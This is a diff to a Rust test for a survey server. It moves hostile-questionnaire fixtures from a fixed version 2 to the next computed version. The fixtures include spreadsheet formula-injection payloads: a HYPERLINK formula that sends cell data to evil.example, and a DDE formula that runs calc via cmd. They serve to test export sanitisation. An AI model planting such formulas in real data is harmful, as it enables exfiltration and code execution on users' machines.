@@ -14,13 +14,16 @@ use serde_json::{Value, json};
 const LINK: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
 const CALC: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
 
-/// Version 2 of the default questionnaire, hostile where an admin's import
+/// The version after the shipped one.
+const NEXT: u32 = salama_shared::default_survey::COMMUNITY_SAFETY_VERSION + 1;
+
+/// The default questionnaire's next version, hostile where an admin's import
 /// could be: the sex question's label, the label of `female`, and a
 /// free-text question kept in microdata.
 fn hostile_version() -> Value {
     let mut survey =
         serde_json::to_value(salama_shared::community_safety()).expect("survey serialises");
-    survey["version"] = json!(2);
+    survey["version"] = json!(NEXT);
     let respondent = &mut survey["sections"][0]["questions"];
     assert_eq!(respondent[0]["id"], "resp_sex");
     respondent[0]["label"]["en"] = json!(LINK);
@@ -69,7 +72,7 @@ async fn hostile_server() -> (Server, String, String) {
     (server, enumerator, analyst)
 }
 
-/// An interview on version 2 in `cluster`, by a respondent of `sex`.
+/// An interview on that version in `cluster`, by a respondent of `sex`.
 async fn post_interview(
     server: &Server,
     enumerator: &str,
@@ -78,7 +81,7 @@ async fn post_interview(
     occupation: &str,
 ) {
     let mut submission = interview();
-    submission["survey_version"] = json!(2);
+    submission["survey_version"] = json!(NEXT);
     // Credited to the account sending it.
     submission["enumerator_id"] = Value::Null;
     submission["cluster_id"] = json!(cluster);
